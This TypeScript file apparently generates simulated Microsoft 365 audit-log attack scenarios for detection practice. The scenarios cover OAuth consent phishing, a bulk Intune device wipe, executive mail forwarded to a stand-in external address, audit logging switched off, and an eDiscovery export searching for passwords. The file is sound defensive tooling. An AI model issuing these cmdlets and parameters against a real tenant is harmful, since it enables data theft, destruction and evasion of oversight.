import { browsers } from '../world/catalog';
import { appTarget, byUser, change, included, principalTarget } from './directory-targets';
import { attacker } from './plots-identity';
import type { Plot } from './plot';

const consentPhishing: Plot = {
  key: 'oauth-consent-phishing',
  title: 'Consent to a look-alike application, which then gets a credential',
  techniques: ['T1566.002', 'T1528', 'T1098.001'],
  livePace: 0.3,
  write(script) {
    const { company, rng } = script;
    const them = attacker(script);
    const victim = rng.pick(company.people);
    const admin = rng.pick(company.admins);
    const app = { name: 'rnicrosoft_office', appId: rng.guid(), objectId: rng.guid(), servicePrincipalId: rng.guid() };
    script.directory({
      category: 'ApplicationManagement',
      activity: 'Add service principal',
      service: 'Core Directory',
      operationType: 'Add',
      actor: byUser(victim),
      targets: [
        principalTarget(app, [
          change('AccountEnabled', [], [true]),
          change('AppPrincipalId', [], [app.appId]),
          change('DisplayName', [], [app.name]),
          included('AccountEnabled, AppPrincipalId, DisplayName'),
        ]),
      ],
    });
    const permissions = `[] => [[Id: ${rng.hexDigits(40)}, ClientId: ${app.servicePrincipalId}, PrincipalId: ${victim.id}, ResourceId: ${rng.guid()}, ConsentType: Principal, Scope:  offline_access Mail.Read Mail.Send Files.ReadWrite.All Contacts.Read]]; `;
    const consent = [
      ['ConsentContext.IsAdminConsent', 'False'],
      ['ConsentContext.IsAppOnly', 'False'],
      ['ConsentContext.OnBehalfOfAll', 'False'],
      ['ConsentContext.Tags', 'WindowsAzureActiveDirectoryIntegratedApp'],
      ['ConsentAction.Permissions', permissions],
    ] as const;
    script.wait(4).directory({
      category: 'ApplicationManagement',
      activity: 'Consent to application',
      service: 'Core Directory',
      operationType: 'Assign',
      actor: byUser(victim),
      targets: [
        principalTarget(
          app,
          consent.map(([name, value]) => change(name, undefined, value)),
        ),
      ],
      details: [{ key: 'AppId', value: app.appId }],
    });
    script.wait(3).directory({
      category: 'ApplicationManagement',
      activity: 'Add delegated permission grant',
      service: 'Core Directory',
      operationType: 'Assign',
      actor: byUser(victim),
      targets: [
        principalTarget(app, [
          change('DelegatedPermissionGrant.Scope', undefined, ' offline_access Mail.Read Mail.Send Files.ReadWrite.All'),
        ]),
      ],
    });
    for (let i = 0; i < 6; i++)
      script.wait(45).mailbox({
        operation: 'MailItemsAccessed',
        user: victim,
        ip: them.ip,
        items: 60 + rng.int(60),
        client: 'Client=REST;Client=RESTSystem;;',
        appId: app.appId,
      });
    const own = rng.pick(company.applications);
    const key = `[KeyIdentifier=${rng.guid()},KeyType=Password,KeyUsage=Verify,DisplayName=backup]`;
    script.wait(120).directory({
      category: 'ApplicationManagement',
      activity: 'Update application – Certificates and secrets management ',
      service: 'Core Directory',
      operationType: 'Update',
      actor: byUser(admin, them.ip),
      targets: [appTarget(own, [change('KeyDescription', [], [key]), included('KeyDescription')])],
    });
    return { actors: [victim.upn, admin.upn], targets: [app.name, own.name] };
  },
};

const massWipe: Plot = {
  key: 'intune-mass-wipe',
  title: 'Devices wiped in bulk after a script is deployed to all',
  techniques: ['T1561', 'T1072'],
  utcHour: 3,
  livePace: 0.3,
  write(script) {
    const { company, rng } = script;
    const admin = rng.pick(company.admins);
    script.signIn(attacker(script).signIn(admin));
    script.wait(60).intune({
      actor: admin,
      operation: 'Create',
      resourceType: 'DeviceManagementScript',
      component: 'DeviceConfiguration',
      category: 'DeviceConfiguration',
      resourceId: rng.guid(),
      resourceName: 'update.ps1',
      changes: [
        { name: 'RunAsAccount', old: null, new: 'System' },
        { name: 'EnforceSignatureCheck', old: null, new: 'False' },
      ],
    });
    script.wait(20).intune({
      actor: admin,
      operation: 'Action',
      activityType: 'assignDeviceManagementScript DeviceManagementScript',
      resourceType: 'DeviceManagementScript',
      component: 'DeviceConfiguration',
      category: 'DeviceConfiguration',
      resourceId: rng.guid(),
      resourceName: '<null>',
      changes: [{ name: 'TargetGroupIDs', old: null, new: company.groups[0]?.id ?? null }],
    });
    const victims = rng.shuffle([...company.people]).slice(0, 25);
    for (const victim of victims)
      script.wait(8).intune({
        actor: admin,
        operation: 'Action',
        activityType: 'wipe ManagedDevice',
        resourceType: 'ManagedDevice',
        component: 'ManagedDevice',
        category: 'Device',
        resourceId: victim.device.id,
        resourceName: victim.device.name,
        changes: [],
      });
    return { actors: [admin.upn], targets: victims.map((victim) => victim.device.name) };
  },
};

const delegation: Plot = {
  key: 'mailbox-delegation-and-forwarding',
  title: 'Full access to an executive mailbox, then mail forwarded outside',
  techniques: ['T1098.002', 'T1114.003'],
  livePace: 0.3,
  write(script) {
    const { company, rng } = script;
    const admin = rng.pick(company.admins);
    const victim = rng.pick(company.people);
    const them = attacker(script);
    script.cmdlet({
      cmdlet: 'Add-MailboxPermission',
      objectId: victim.mailNickname,
      actor: admin,
      ip: them.ip,
      parameters: [
        ['Identity', victim.mailNickname],
        ['User', admin.upn],
        ['AccessRights', 'FullAccess'],
        ['InheritanceType', 'All'],
        ['AutoMapping', 'False'],
      ],
    });
    script.wait(50).cmdlet({
      cmdlet: 'Set-Mailbox',
      objectId: victim.mailNickname,
      actor: admin,
      ip: them.ip,
      parameters: [
        ['Identity', victim.upn],
        ['ForwardingSmtpAddress', 'smtp:archive.box@example.net'],
        ['DeliverToMailboxAndForward', 'True'],
      ],
    });
    script.wait(40).cmdlet({
      cmdlet: 'New-TransportRule',
      objectId: 'Copy',
      actor: admin,
      ip: them.ip,
      parameters: [
        ['Name', 'Copy'],
        ['BlindCopyTo', 'archive.box@example.net'],
        ['FromScope', 'InOrganization'],
        ['Priority', '0'],
      ],
    });
    for (let i = 0; i < 5; i++)
      script
        .wait(30)
        .mailbox({ operation: 'MailItemsAccessed', user: victim, ip: them.ip, items: 90, client: `Client=OWA;${browsers[1].agent};` });
    return { actors: [admin.upn], targets: [victim.upn, 'archive.box@example.net'] };
  },
};

const auditDisabled: Plot = {
  key: 'audit-log-disabled',
  title: 'Audit log switched off, mailbox audit bypassed',
  techniques: ['T1562.008'],
  utcHour: 23,
  livePace: 0.3,
  write(script) {
    const { company, rng } = script;
    const admin = rng.pick(company.admins);
    const them = attacker(script);
    script.cmdlet({
      cmdlet: 'Set-MailboxAuditBypassAssociation',
      objectId: admin.mailNickname,
      actor: admin,
      ip: them.ip,
      parameters: [
        ['Identity', admin.upn],
        ['AuditBypassEnabled', 'True'],
      ],
    });
    script.wait(30).cmdlet({
      cmdlet: 'Set-AdminAuditLogConfig',
      objectId: `${company.initialDomain}\\Admin Audit Log Settings`,
      actor: admin,
      ip: them.ip,
      parameters: [['UnifiedAuditLogIngestionEnabled', 'False']],
    });
    script.wait(200).cmdlet({
      cmdlet: 'Set-AdminAuditLogConfig',
      objectId: `${company.initialDomain}\\Admin Audit Log Settings`,
      actor: admin,
      ip: them.ip,
      parameters: [['UnifiedAuditLogIngestionEnabled', 'True']],
    });
    return { actors: [admin.upn], targets: ['Admin Audit Log Settings'] };
  },
};

const discoveryExport: Plot = {
  key: 'ediscovery-export',
  title: 'Compliance search over all mailboxes, exported',
  techniques: ['T1114.002', 'T1213'],
  utcHour: 20,
  livePace: 0.3,
  write(script) {
    const { company, rng } = script;
    const admin = rng.pick(company.admins);
    const extra = (parameters: string) => ({
      ResultStatus: 'Success',
      ObjectId: 'quarterly',
      ClientApplication: 'EMC',
      CmdletVersion: '...',
      EffectiveOrganization: company.initialDomain,
      NonPIIParameters: '',
      Parameters: parameters,
      SecurityComplianceCenterEventType: 0,
    });
    const act = (operation: string, parameters: string): void =>
      void script
        .wait(60)
        .general({ operation, recordType: 18, workload: 'SecurityComplianceCenter', user: admin, userType: 2, extra: extra(parameters) });
    act('New-ComplianceSearch', '-Name "quarterly" -ExchangeLocation ("All") -ContentMatchQuery "password OR confidential"');
    act('Start-ComplianceSearch', '-Identity "quarterly"');
    act('New-ComplianceSearchAction', '-SearchName "quarterly" -Export "True" -Format "FxStream"');
    return { actors: [admin.upn], targets: ['quarterly'] };
  },
};

export const cloudPlots: readonly Plot[] = [consentPhishing, massWipe, delegation, auditDisabled, discoveryExport];
